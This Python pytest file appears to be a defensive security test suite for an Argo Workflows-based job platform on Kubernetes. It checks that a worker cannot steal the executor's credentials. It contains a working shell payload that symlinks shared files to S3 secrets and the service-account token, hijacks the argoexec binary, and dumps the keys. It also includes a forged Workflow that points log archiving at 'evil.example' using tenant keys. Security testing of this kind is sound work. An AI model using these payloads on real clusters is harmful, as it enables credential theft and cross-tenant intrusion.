"""Issue #30 on the real stack: a worker that runs the consumer's own code tries to get the credentials Argo's
executor holds in the same pod, and to use them. Each attack must fail, with the reason checked:

- files the worker shares with the wait container (the log Argo would archive, stdout, the progress file, the
  ``argoexec`` binary the controller execs to signal it) replaced by links to the wait container's secrets, or
  by the worker's own program: nothing of the wait container's reaches the log, the outputs or S3;
- the job's own S3 keys, stolen (read here from their Secret, as a thief in the wait container would): they
  reach that job's keys only, and nothing at all once the job has ended;
- the executor's Kubernetes token: projected, bound to the job's pod, dead once the job has ended;
- a Workflow created with the API token that brings its own artifact repository in ``status``.
"""

from __future__ import annotations

import base64
import io
import json
import tarfile
import time
from typing import Any

import httpx
import pytest
import s3fs
from kubernetes import client as k8s
from minio import Minio
from minio.error import S3Error

from devstack.stack import kube
from devstack.stack.launcher import StackInfo
from devstack.wait import wait_for
from tests.api.tenant import ApiTenant
from tests.support.pods import job_pods, wait_pods_gone

pytestmark = pytest.mark.stack

JWT_HEAD = b"eyJhbGciOi"  # every Kubernetes token starts so: found anywhere, a token leaked

# The worker plants, in the volume it shares with the wait container, links to what only the wait container
# holds, and replaces the binary the controller execs in the wait container by its own script.
PLANT = r"""#!/bin/sh
JOB=${ARGO_WORKFLOW_NAME:-$HOSTNAME}  # a one-step job's pod is named after its Workflow
S=/argo/secret/$JOB-s3
T=/var/run/secrets/kubernetes.io/serviceaccount/token
echo "planting for $JOB"
mkdir -p /var/run/argo/ctr/main /output/tree
rm -f /var/run/argo/ctr/main/combined /var/run/argo/ctr/main/stdout /var/run/argo/progress
ln -s $S/secretKey /var/run/argo/ctr/main/combined
ln -s $T /var/run/argo/ctr/main/stdout
ln -s $S/sessionToken /var/run/argo/progress
cat > /tmp/evil <<EOF
#!/bin/sh
[ -d /argo/secret ] && echo "EVIL-RAN-IN-WAIT \$(cat $S/accessKey)"
cat $S/accessKey $S/secretKey $S/sessionToken $T > /mainctrfs/output/tree/stolen 2>&1
exec /bin/argoexec "\$@"
EOF
chmod 755 /tmp/evil
mv -f /tmp/evil /var/run/argo/argoexec 2>/dev/null || cp /tmp/evil /var/run/argo/argoexec
ls -l /var/run/argo /var/run/argo/ctr/main
echo planted > /output/result
sleep ${HOLD:-3}
echo "worker done"
"""


def _secret(stack: StackInfo, namespace: str, name: str) -> dict[str, bytes]:
    api = kube.api_client(stack.kubeconfig)
    data = k8s.CoreV1Api(api).read_namespaced_secret(name, namespace).data or {}
    return {k: base64.b64decode(v) for k, v in data.items()}


def _job_keys(stack: StackInfo, tenant: ApiTenant, job: str) -> dict[str, bytes]:
    """The job's own S3 keys as its Secret holds them while it runs (what a thief in the pod could get)."""
    found: dict[str, bytes] = wait_for(
        lambda: _try_secret(stack, tenant.namespace, f"{job}-s3"), 30, what="the job's own S3 Secret"
    )
    return found


def _try_secret(stack: StackInfo, namespace: str, name: str) -> dict[str, bytes] | None:
    try:
        return _secret(stack, namespace, name)
    except k8s.ApiException as exc:
        if exc.status == 404:
            return None
        raise


def _s3(stack: StackInfo, keys: dict[str, bytes]) -> Minio:
    host = stack.s3_endpoint.split("://", 1)[1]
    return Minio(
        host,
        access_key=keys["accessKey"].decode(),
        secret_key=keys["secretKey"].decode(),
        session_token=keys["sessionToken"].decode(),
        secure=False,
        region="us-east-1",
    )


def _code(fn: Any) -> str:
    try:
        fn()
    except S3Error as exc:
        return exc.code or "S3Error"
    return "OK"


def _blobs(stack: StackInfo, tenant: ApiTenant, job: str) -> list[tuple[str, bytes]]:
    """Every object of the job, and every file inside its archives."""
    fs = s3fs.S3FileSystem(
        key=stack.s3_access_key, secret=stack.s3_secret_key, endpoint_url=stack.s3_endpoint, skip_instance_cache=True
    )
    keys = tenant.settings.keys
    found: list[tuple[str, bytes]] = []
    for path in [*fs.find(f"{stack.bucket}/{keys.job(job)}"), *fs.find(f"{stack.bucket}/{keys.executor(job)}")]:
        data = fs.cat_file(path)
        found.append((path, data))
        if path.endswith(".tgz"):
            with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
                found += [(f"{path}:{m.name}", tar.extractfile(m).read()) for m in tar.getmembers() if m.isreg()]  # type: ignore[union-attr]
    return found


@pytest.fixture(scope="module")
def other_job(adv: ApiTenant) -> dict[str, Any]:
    """Another job of the same tenant, finished: its keys are what a thief would want next."""
    with adv.client() as client:
        client.upload_bytes("probe", "entrypoint.sh", b"#!/bin/sh\necho other > /output/result\n")
        return client.wait(client.start("probe")["id"], timeout=300)


@pytest.fixture(scope="module")
def planted(adv: ApiTenant, stack: StackInfo) -> dict[str, Any]:
    """One job whose worker plants every link and program above; its keys as they were while it ran."""
    with adv.client() as client:
        client.upload_bytes("probe", "entrypoint.sh", PLANT.encode())
        client.upload_bytes("probe", "env", b"HOLD=8\n")
        job = client.start("probe")
        keys = _job_keys(stack, adv, job["id"])
        api = kube.api_client(stack.kubeconfig)
        pod = wait_for(lambda: next(iter(job_pods(api, adv.namespace, job["id"])), None), 60, what="the job's pod")
        # A token exactly like the one the wait container holds: the pod's account, bound to the pod.
        request = k8s.AuthenticationV1TokenRequest(
            spec=k8s.V1TokenRequestSpec(
                audiences=[],
                expiration_seconds=600,
                bound_object_ref=k8s.V1BoundObjectReference(
                    api_version="v1", kind="Pod", name=pod.metadata.name, uid=pod.metadata.uid
                ),
            )
        )
        issued = k8s.CoreV1Api(api).create_namespaced_service_account_token("wml-worker", adv.namespace, request)
        assert issued.status is not None
        token = issued.status.token
        running = {"pod": pod.to_dict(), "token": token}
        done = client.wait(job["id"], timeout=300)
        # the API settles the job's end: its log stored from the kubelet, then its pods deleted
        wait_pods_gone(api, adv.namespace, job["id"])
        log = b"\n".join(line.encode() for line in client.logs(done["id"]))
    return {"job": done, "keys": keys, "log": log, **running}


def test_shared_files_lead_the_wait_container_nowhere(
    planted: dict[str, Any], adv: ApiTenant, stack: StackInfo
) -> None:
    job = planted["job"]
    assert job["state"] in {"COMPLETE", "EXECUTOR_ERROR"}, job  # our side held whatever the worker did
    assert b"planting for job-" in planted["log"] and b"worker done" in planted["log"]
    secrets = [planted["keys"]["secretKey"], planted["keys"]["sessionToken"], planted["keys"]["accessKey"]]
    tenant_exec = _secret(stack, adv.namespace, "wml-s3")["secretKey"]
    # The stored log is the kubelet's copy of what the worker printed, not the file it replaced.
    for needle in [*secrets, tenant_exec, JWT_HEAD]:
        assert needle not in planted["log"]
    blobs = _blobs(stack, adv, job["id"])
    assert any(path.endswith(".log") for path, _ in blobs), [p for p, _ in blobs]
    for path, data in blobs:
        for needle in [*secrets, tenant_exec, JWT_HEAD]:
            assert needle not in data, path
    # the controller signalled the wait container with the executor image's binary, never the worker's script
    assert not any(path.endswith("stolen") for path, _ in blobs), [p for p, _ in blobs]
    annotations = planted["pod"]["metadata"]["annotations"]
    assert json.loads(annotations["workflows.argoproj.io/kill-cmd-wait"])[0] == "/bin/argoexec"


def test_a_cancel_signals_the_wait_container_with_its_own_binary(adv: ApiTenant, stack: StackInfo) -> None:
    """Argo 4.0.x signals a pod's containers by exec'ing ``/var/run/argo/argoexec`` in each (on a cancel, a
    deadline): the worker replaced that file, and without the template's kill-cmd annotation its script ran in the
    wait container, with the job's keys and token (seen with this very test against a template without it: the
    controller's log then shows the script's EVIL-RAN-IN-WAIT line). With it, the controller runs the executor
    image's own binary there."""
    controller_log = stack.state_dir / "logs" / "workflow-controller.log"
    with adv.client() as client:
        client.upload_bytes("probe", "entrypoint.sh", PLANT.encode())
        client.upload_bytes("probe", "env", b"HOLD=120\n")
        job = client.start("probe")["id"]
        wait_for(lambda: b"planting for" in "\n".join(client.logs(job)).encode(), 120, interval=1, what="planted")
        time.sleep(2)
        client.cancel(job)
        assert client.wait(job, timeout=180)["state"] == "CANCELED"

    def signalled() -> list[str] | None:
        lines = [line for line in controller_log.read_text(errors="replace").splitlines() if job in line]
        signals = [line for line in lines if "signaled container" in line and "container=wait" in line]
        return lines if signals else None

    lines = wait_for(signalled, 60, interval=1, what="the controller signalling the wait container")
    execs = [line for line in lines if "/exec?command=" in line and "container=wait" in line]
    assert execs and all("command=%2Fbin%2Fargoexec" in line for line in execs), execs
    assert not any("EVIL-RAN-IN-WAIT" in line for line in lines)


def test_the_job_pod_holds_no_long_lived_credential(planted: dict[str, Any], adv: ApiTenant, stack: StackInfo) -> None:
    spec = planted["pod"]["spec"]
    volumes = {v["name"]: v for v in spec["volumes"]}
    token = volumes["exec-sa-token"]
    assert token.get("secret") is None and token["projected"] is not None
    [source] = [s["service_account_token"] for s in token["projected"]["sources"] if s.get("service_account_token")]
    assert source["expiration_seconds"] == 600
    # S3: the job's own Secret, nothing of the tenant's
    secrets = {v["secret"]["secret_name"] for v in spec["volumes"] if v.get("secret")}
    job = planted["job"]["id"]
    assert f"{job}-s3" in secrets and "wml-s3" not in secrets, secrets
    api = kube.api_client(stack.kubeconfig)
    with pytest.raises(k8s.ApiException) as absent:
        k8s.CoreV1Api(api).read_namespaced_secret("wml-worker.service-account-token", adv.namespace)
    assert absent.value.status == 404


def test_stolen_job_keys_reach_that_job_only_and_die_with_it(
    planted: dict[str, Any], adv: ApiTenant, stack: StackInfo, other_job: dict[str, Any]
) -> None:
    keys = adv.settings.keys
    job, other = planted["job"]["id"], other_job["id"]
    s3 = _s3(stack, planted["keys"])
    bucket = stack.bucket
    # after the job (its end settled by the API): every use is refused, in its own keys too
    own = f"{keys.executor(job)}/late.bin"
    wait_for(
        lambda: _code(lambda: s3.put_object(bucket, own, io.BytesIO(b"x" * 1024), 1024)) != "OK",
        30,
        what="the ended job's keys revoked",
    )
    assert _code(lambda: s3.get_object(bucket, keys.job_input(job, "entrypoint.sh")).read()) != "OK"
    assert _code(lambda: s3.put_object(bucket, f"{keys.executor(other)}/x", io.BytesIO(b"x"), 1)) != "OK"


def test_a_running_jobs_keys_reach_nothing_but_its_own(
    adv: ApiTenant, stack: StackInfo, other_job: dict[str, Any]
) -> None:
    keys = adv.settings.keys
    with adv.client() as client:
        client.upload_bytes("probe", "entrypoint.sh", b"#!/bin/sh\nsleep 30\n")
        job = client.start("probe")["id"]
        stolen = _s3(stack, _job_keys(stack, adv, job))
        bucket, other = stack.bucket, other_job["id"]
        try:
            # its own: write under exec/<job>/, read its own inputs
            assert _code(lambda: stolen.put_object(bucket, f"{keys.executor(job)}/x", io.BytesIO(b"x"), 1)) == "OK"
            assert _code(lambda: stolen.get_object(bucket, f"{keys.job_input(job, 'entrypoint.sh')}").read()) == "OK"
            # nothing else: another job's inputs and outputs, the API's keys, staging, deletes
            for attempt in (
                lambda: stolen.get_object(bucket, keys.job_input(other, "entrypoint.sh")).read(),
                lambda: stolen.put_object(bucket, f"{keys.executor(other)}/x", io.BytesIO(b"x"), 1),
                lambda: stolen.put_object(bucket, keys.job_receipt(job), io.BytesIO(b"{}"), 2),
                lambda: stolen.put_object(bucket, f"{keys.staging('probe', 'entrypoint.sh')}", io.BytesIO(b"x"), 1),
                lambda: stolen.remove_object(bucket, f"{keys.executor(job)}/x"),
                lambda: stolen.get_object(bucket, keys.job_seal(other)).read(),
            ):
                assert _code(attempt) == "AccessDenied"
        finally:
            client.cancel(job)
        client.wait(job, timeout=120)
        # once the job has ended (its end settled by the API), its keys are worth nothing
        wait_for(
            lambda: _code(lambda: stolen.put_object(bucket, f"{keys.executor(job)}/y", io.BytesIO(b"y"), 1)) != "OK",
            30,
            what="the ended job's keys revoked",
        )


def test_the_executor_token_dies_with_the_job(planted: dict[str, Any], adv: ApiTenant, stack: StackInfo) -> None:
    """The token the wait container holds is bound to its pod: the API deletes the pod as soon as it has stored
    the log, and the token is refused from then on."""
    api = kube.api_client(stack.kubeconfig)
    wait_pods_gone(api, adv.namespace, planted["job"]["id"], timeout=60)
    url = f"{api.configuration.host}/apis/argoproj.io/v1alpha1/namespaces/{adv.namespace}/workflowtaskresults"
    answer = httpx.get(
        url, headers={"Authorization": f"Bearer {planted['token']}"}, verify=api.configuration.ssl_ca_cert, timeout=30
    )
    assert answer.status_code == 401, answer.text


def test_a_workflow_cannot_bring_its_own_artifact_repository(adv: ApiTenant) -> None:
    token = adv.settings.argo_token.get_secret_value()  # type: ignore[union-attr]
    path = f"{adv.settings.kube_api_url}/apis/argoproj.io/v1alpha1/namespaces/{adv.namespace}/workflows"
    forged = {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Workflow",
        "metadata": {"generateName": "evil-"},
        "spec": {"workflowTemplateRef": {"name": "wml-probe"}},
        "status": {
            "artifactRepositoryRef": {
                "artifactRepository": {
                    "archiveLogs": True,
                    "s3": {
                        "bucket": "x",
                        "endpoint": "evil.example:9000",
                        "accessKeySecret": {"name": "wml-s3", "key": "accessKey"},
                        "secretKeySecret": {"name": "wml-s3", "key": "secretKey"},
                    },
                }
            }
        },
    }
    answer = httpx.post(
        path,
        json=forged,
        headers={"Authorization": f"Bearer {token}"},
        verify=str(adv.settings.kube_ca_file),
        timeout=30,
    )
    assert answer.status_code in (400, 403, 422), answer.text
    assert "carries no artifact repository of its own" in answer.text


def test_the_api_token_deletes_job_pods_only(adv: ApiTenant, stack: StackInfo) -> None:
    """The API deletes a finished job's pods; its token cannot delete any other pod (admission)."""
    api = kube.api_client(stack.kubeconfig)
    core = k8s.CoreV1Api(api)
    pod = k8s.V1Pod(
        metadata=k8s.V1ObjectMeta(name="not-a-job", labels={"app": "x"}),
        spec=k8s.V1PodSpec(containers=[k8s.V1Container(name="c", image="imlahso/dummy-job", command=["sleep", "60"])]),
    )
    core.create_namespaced_pod(adv.namespace, pod)
    try:
        token = adv.settings.argo_token.get_secret_value()  # type: ignore[union-attr]
        answer = httpx.delete(
            f"{adv.settings.kube_api_url}/api/v1/namespaces/{adv.namespace}/pods/not-a-job",
            headers={"Authorization": f"Bearer {token}"},
            verify=str(adv.settings.kube_ca_file),
            timeout=30,
        )
        assert answer.status_code in (400, 403, 422), answer.text
        assert "may only delete a job's pods" in answer.text
    finally:
        core.delete_namespaced_pod("not-a-job", adv.namespace, grace_period_seconds=0)
